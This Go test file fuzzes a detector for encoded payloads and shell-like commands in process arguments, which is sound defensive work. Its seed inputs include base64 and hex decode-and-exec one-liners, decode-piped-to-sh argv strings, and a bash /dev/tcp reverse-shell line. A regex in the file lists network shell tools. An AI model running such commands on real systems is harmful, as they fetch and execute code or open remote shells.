package detect

import (
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"
)

// FuzzInlinePayload feeds attacker-controlled inline code to the payload
// decoder: it must not panic, must stay bounded, and its preview must be
// printable ASCII.
func FuzzInlinePayload(f *testing.F) {
	f.Add("python3", "import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))")
	f.Add("sh", "echo IyEvYmluL3NoCmlkCg== | base64 -d | sh")
	f.Add("perl", `eval pack("H*", "23212f62696e2f73680a69640a")`)
	f.Add("node", `eval(Buffer.from('\x23\x21\x2f\x62\x69\x6e\x2f\x73\x68','hex'))`)
	f.Fuzz(func(t *testing.T, tool, code string) {
		pi := inspect([]string{tool, "-c", code}, tool)
		if pi == nil {
			return
		}
		// One blob per class (encoding, kind, inner kind) at most.
		if most := len(Encodings) * len(PayloadKinds) * (len(PayloadKinds) + 1); len(pi.blobs) > most {
			t.Fatalf("%d blobs, want at most %d", len(pi.blobs), most)
		}
		if p := pi.best(); p != nil {
			if !utf8.ValidString(p.Preview) || strings.ContainsFunc(p.Preview, func(r rune) bool { return r < 0x20 || r > 0x7e }) {
				t.Fatalf("preview %q holds a byte outside printable ASCII", p.Preview)
			}
			if len(p.Preview) > 4*previewBytes+3 {
				t.Fatalf("preview is %d bytes, want it bounded", len(p.Preview))
			}
		}
	})
}

// FuzzArgvMatch runs arbitrary argv through the mode, flag and inline-code
// readers and a full evaluation: none may panic, and a no-match result must
// not depend on argv order of evaluation.
func FuzzArgvMatch(f *testing.F) {
	f.Add("base64\x00-di\x00--wrap\x000")
	f.Add("xxd\x00-r\x00-p")
	f.Add("openssl\x00enc\x00-d\x00-a")
	f.Add("bash\x00-o\x00pipefail\x00-c\x00echo x | base64 -d | sh")
	f.Add("sh\x00-c")
	f.Add("sh\x00/dev/fd/3")
	f.Add("python3\x00-Wignore\x00-mbase64\x00-d")
	f.Add("pwsh\x00/EnC:ZQBjAGgAbwA=")
	f.Add("perl\x00-lne\x00print")
	f.Add("php\x00-f\x00/proc/self/fd/9")
	p := mustCompile(f, PolicySpec{Signatures: []SignatureSpec{
		encoderSpec,
		{Name: "dec", Importance: High, Conditions: Conditions{"executables": []string{"base64", "xxd", "openssl"}, "mode": "decode", "args_regex": `.`}},
		{Name: "inline", Importance: High, Conditions: Conditions{"executables": []string{"sh", "bash", "python"}, "decode_calls": []string{"any"}, "payload": PayloadKinds}},
	}})
	f.Fuzz(func(t *testing.T, joined string) {
		argv := strings.Split(joined, "\x00")
		for _, tool := range []string{"base64", "xxd", "openssl", "uudecode", "python3"} {
			toolMode(tool, argv)
		}
		for _, fl := range []string{"-d", "--decode", "-c"} {
			hasFlag(argv, fl)
		}
		if len(argv) > 0 {
			InlineCode(basename(argv[0]), argv)
		}
		for _, tool := range []string{"sh", "bash", "python3", "perl", "ruby", "php", "node", "lua", "tclsh", "pwsh", "gpg"} {
			if src, ok := programSource(tool, argv); ok && src.Kind == SourceFD && src.FD <= 0 {
				t.Fatalf("programSource(%s, %q) = descriptor %d, want a positive one", tool, argv, src.FD)
			}
			toolMode(tool, argv)
		}
		pwshEncodedCommand(argv)
		ScriptCommands(joined)
		SplitCommand(joined)
		e := NewEngine(p, "h", fixedNow)
		ev := execEvent("/usr/bin/"+basename(argv[0]), argv...)
		for _, a := range e.Evaluate(ev) {
			if a.Signature.Name == "" || len(a.Matches) == 0 {
				t.Fatalf("alert %+v without a signature or matches", a)
			}
		}
	})
}

// shellRefRe is the regular expression shellLike replaced, kept as its
// reference.
var shellRefRe = regexp.MustCompile(`(?:^|[\s;|&(` + "`" + `])(?:curl|wget|bash|sh|nc|ncat|socat|chmod|rm|python[0-9.]*|perl|ruby|php|exec|eval|mkfifo|crontab|base64|whoami|uname|id|cat|echo|export|nohup|kill|useradd|iptables|dd)(?:\s|$|;)|/dev/tcp/|\$\(|\|\s*(?:ba)?sh\b`)

// FuzzShellLike checks shellLike against the regular expression it
// replaced.
func FuzzShellLike(f *testing.F) {
	for _, s := range []string{"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "curl x|sh", "python3.12 -c", "pythonx", "id;", "id|", "| bash", "|bashx", "echo $(id)", "hello world", "iptablesx y", "x\vid", "ab(rm", "sh"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if got, want := shellLike(s), shellRefRe.MatchString(s); got != want {
			t.Fatalf("shellLike(%q) = %v, want %v", s, got, want)
		}
	})
}
